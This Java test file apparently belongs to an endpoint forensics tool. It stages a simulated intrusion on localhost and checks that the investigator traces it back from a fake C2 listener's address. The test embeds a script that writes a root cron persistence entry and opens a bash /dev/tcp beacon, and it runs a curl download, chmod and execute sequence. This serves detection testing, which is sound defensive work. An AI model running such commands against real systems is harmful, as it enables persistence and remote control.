package dev.kiroku.investigate;

import dev.kiroku.investigate.api.InvestigationJson;
import dev.kiroku.investigate.history.EventHistory;
import dev.kiroku.investigate.index.ProcessRecordTable;
import dev.kiroku.investigate.history.Window;
import dev.kiroku.agent.inventory.ExecutableInventoryScanner;
import dev.kiroku.investigate.inventory.FileInventory;
import dev.kiroku.investigate.tracking.ChainLink;
import dev.kiroku.investigate.tracking.FileEffect;
import dev.kiroku.investigate.tracking.FileOrigin;
import dev.kiroku.investigate.tracking.Impact;
import dev.kiroku.investigate.tracking.RootCause;
import dev.kiroku.investigate.tracking.TrackingLimits;
import dev.kiroku.investigate.workflow.ArtifactScope;
import dev.kiroku.investigate.workflow.Clue;
import dev.kiroku.investigate.workflow.Contact;
import dev.kiroku.investigate.workflow.Investigation;
import dev.kiroku.investigate.workflow.Investigator;
import dev.kiroku.investigate.workflow.Presence;
import org.h2.jdbcx.JdbcDataSource;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * A real intrusion chain recorded by the real agent on this machine: a local HTTP server serves a script, curl
 * downloads it, chmod makes it executable, it runs, starts a shell that writes a cron file and connects to a local
 * "C2" listener. Starting only from the listener's address, the four steps find the whole chain.
 */
class RecordedChainTest {

    @Test
    void fromTheListenerAddressTheFourStepsFindTheDownloadedScriptItsShellItsCronFileAndItsOrigin(@TempDir Path data) throws Exception {
        Path temp = Files.createTempDirectory(Path.of("/dev/shm"), "kiroku-investigate-");
        List<Process> started = new ArrayList<>();
        try (RecordingEndpoint endpoint = new RecordingEndpoint(data, temp);
             ServerSocket c2 = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            Thread acceptor = Thread.ofVirtual().start(() -> {
                while (!c2.isClosed()) {
                    try (Socket s = c2.accept()) {
                        s.getInputStream().readAllBytes();
                    } catch (IOException e) {
                        return;
                    }
                }
            });
            Path served = Files.createDirectories(data.resolve("served"));
            Files.writeString(served.resolve("update.sh"), """
                    #!/bin/sh
                    bash -c 'echo "* * * * * root $0" > "$1/cron.d/kiroku-update"; exec 3<>/dev/tcp/127.0.0.1/$2; echo beacon >&3' "$0" "$1" "$2"
                    echo done
                    """);
            int httpPort;
            try (ServerSocket free = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
                httpPort = free.getLocalPort();
            }
            Process http = new ProcessBuilder("python3", "-m", "http.server", Integer.toString(httpPort), "--bind", "127.0.0.1",
                    "--directory", served.toString()).redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
            started.add(http);
            await().atMost(Duration.ofSeconds(30)).until(() -> {
                try (Socket ignored = new Socket(InetAddress.getLoopbackAddress(), httpPort)) {
                    return true;
                } catch (IOException e) {
                    return false;
                }
            });
            Path drop = Files.createDirectories(temp.resolve("dl"));
            Path cronRoot = Files.createDirectories(temp.resolve("etc"));
            Files.createDirectories(cronRoot.resolve("cron.d"));
            Path payload = drop.resolve("update");
            run(List.of("curl", "-sS", "-o", payload.toString(), "http://127.0.0.1:" + httpPort + "/update.sh"));
            assertThat(payload).exists();
            run(List.of("chmod", "+x", payload.toString()));
            run(List.of(payload.toString(), cronRoot.toString(), Integer.toString(c2.getLocalPort())));
            Path cronFile = cronRoot.resolve("cron.d/kiroku-update");
            assertThat(cronFile).exists();

            EventHistory history = new EventHistory(endpoint.store, InstantSource.system());
            String beacon = "event.action:connect AND destination.port:" + c2.getLocalPort() + " AND process.name:bash";
            await().atMost(Duration.ofSeconds(90)).untilAsserted(() -> {
                assertThat(history.count(beacon, Window.ALL)).isEqualTo(1);
                assertThat(history.count("file.path:=\"" + cronFile + "\" AND event.action:modification", Window.ALL)).isEqualTo(1);
                assertThat(history.count("file.path:=\"" + payload + "\" AND event.action:modification", Window.ALL)).isGreaterThanOrEqualTo(1);
                assertThat(history.count("event.action:connect AND destination.port:" + httpPort + " AND process.name:curl", Window.ALL)).isEqualTo(1);
            });

            JdbcDataSource db = new JdbcDataSource();
            db.setURL("jdbc:h2:mem:recorded-chain;DB_CLOSE_DELAY=-1");
            FileInventory inventory = new FileInventory(db, InstantSource.system());
            inventory.ingest(history.events("event.category:(process OR file)", Window.ALL, 10_000));
            ExecutableInventoryScanner.Result scan = new ExecutableInventoryScanner(List.of(drop), 1 << 20, 1 << 24, 1.0).scan();
            inventory.record(scan.records().stream().map(x -> new dev.kiroku.investigate.inventory.InventoryRecord(endpoint.agent.agentId(),
                    "investigate-host", x.path(), x.sha256(), x.size(), java.time.Instant.now(), false, "scan")).toList());

            Investigator investigator = new Investigator(history, inventory, TrackingLimits.defaults(), 10);
            Investigation found = investigator.investigate(new Clue.Address("127.0.0.1", c2.getLocalPort()), Window.ALL);
            Files.writeString(Path.of("target/recorded-chain.json"),
                    InvestigationJson.mapper().writerWithDefaultPrettyPrinter().writeValueAsString(found));

            // 1. Who talked to it: the shell, on this endpoint.
            assertThat(found.contacts()).hasSize(1);
            Contact shell = found.contacts().getFirst();
            assertThat(shell.executable()).endsWith("/bash");
            assertThat(shell.agentId()).isEqualTo(endpoint.agent.agentId());
            assertThat(shell.remotes()).containsExactly("127.0.0.1:" + c2.getLocalPort());

            // 2. How it got there: shell ← the downloaded script running ← ... and the script was written by curl after it
            // connected to the HTTP server.
            RootCause chain = found.chains().getFirst();
            assertThat(chain.chain().getFirst().process().name()).isEqualTo("bash");
            ChainLink script = chain.chain().get(1);
            FileOrigin origin = script.origins().stream().filter(o -> o.role().equals("script")).findFirst().orElseThrow();
            assertThat(origin.path()).isEqualTo(payload.toString());
            assertThat(origin.writer().process().name()).isEqualTo("curl");
            assertThat(origin.writer().download()).extracting(c -> c.remote()).contains("127.0.0.1:" + httpPort);
            assertThat(origin.writer().writerChain()).isNotNull();
            assertThat(chain.causalRoot().entityId()).isEqualTo(script.process().entityId());
            assertThat(chain.boundary()).isNotBlank();
            assertThat(found.answers().get(1)).contains(payload.toString()).contains("curl").contains("127.0.0.1:" + httpPort);

            // 3. Who else has it: this endpoint, by the hash the inventory scanner took, and it ran.
            String sha = scan.records().stream().filter(r -> r.path().equals(payload.toString())).findFirst().orElseThrow().sha256();
            ArtifactScope scope = found.scope().stream().filter(s -> sha.equals(s.sha256())).findFirst().orElseThrow();
            assertThat(scope.endpoints()).singleElement().satisfies(p -> {
                assertThat(p.agentId()).isEqualTo(endpoint.agent.agentId());
                assertThat(p.paths()).contains(payload.toString());
                assertThat(p.state()).isEqualTo(Presence.State.RAN);
            });
            ArtifactScope byName = found.scope().stream().filter(s -> s.sha256() == null && "update".equals(s.name())).findFirst().orElseThrow();
            assertThat(byName.endpoints()).singleElement().satisfies(p -> assertThat(p.state()).isEqualTo(Presence.State.RAN));

            // 4. What it did: the shell, the cron file (persistence) and the connection.
            Impact impact = found.impacts().getFirst();
            assertThat(impact.root().entityId()).isEqualTo(script.process().entityId());
            assertThat(impact.processes()).extracting(d -> d.process().name()).contains("bash");
            assertThat(impact.persistence()).extracting(FileEffect::path).contains(cronFile.toString());
            assertThat(impact.persistence()).extracting(FileEffect::persistence).contains("cron");
            assertThat(impact.connections()).extracting(c -> c.remote()).contains("127.0.0.1:" + c2.getLocalPort());
            assertThat(impact.graph().edges()).isNotEmpty();

            // The whole chain curl → file → exec → shell → connection is in the root-cause graph.
            assertThat(chain.graph().edges()).extracting(e -> e.kind().name())
                    .contains("WROTE", "EXECUTED", "SPAWNED", "CONNECTED");

            // The process record index built from this recording gives the same chain, origins and scope.
            ProcessRecordTable processes = new ProcessRecordTable(db, InstantSource.system());
            assertThat(processes.rebuildFrom(endpoint.store, InstantSource.system())).isPositive();
            Investigation indexed = new Investigator(new EventHistory(endpoint.store, InstantSource.system(), processes), inventory,
                    TrackingLimits.defaults(), 10).investigate(new Clue.Address("127.0.0.1", c2.getLocalPort()), Window.ALL);
            assertThat(indexed.chains()).hasSameSizeAs(found.chains());
            for (int i = 0; i < found.chains().size(); i++) {
                assertThat(indexed.chains().get(i).processIds()).isEqualTo(found.chains().get(i).processIds());
                assertThat(indexed.chains().get(i).writtenFiles()).extracting(FileOrigin::path)
                        .isEqualTo(found.chains().get(i).writtenFiles().stream().map(FileOrigin::path).toList());
            }
            assertThat(indexed.scope()).extracting(ArtifactScope::endpoints).isEqualTo(found.scope().stream().map(ArtifactScope::endpoints).toList());
            c2.close();
            acceptor.join(2000);
        } finally {
            for (Process p : started) {
                p.destroy();
                if (!p.waitFor(5, TimeUnit.SECONDS)) p.destroyForcibly();
            }
            try (Stream<Path> paths = Files.walk(temp)) {
                for (Path p : paths.sorted(Comparator.reverseOrder()).toList()) Files.deleteIfExists(p);
            }
        }
    }

    private static void run(List<String> command) throws IOException, InterruptedException {
        Process p = new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
        if (!p.waitFor(30, TimeUnit.SECONDS)) {
            p.destroyForcibly();
            throw new IllegalStateException(command + " did not finish in 30 s");
        }
        assertThat(p.exitValue()).as(String.join(" ", command)).isZero();
    }
}
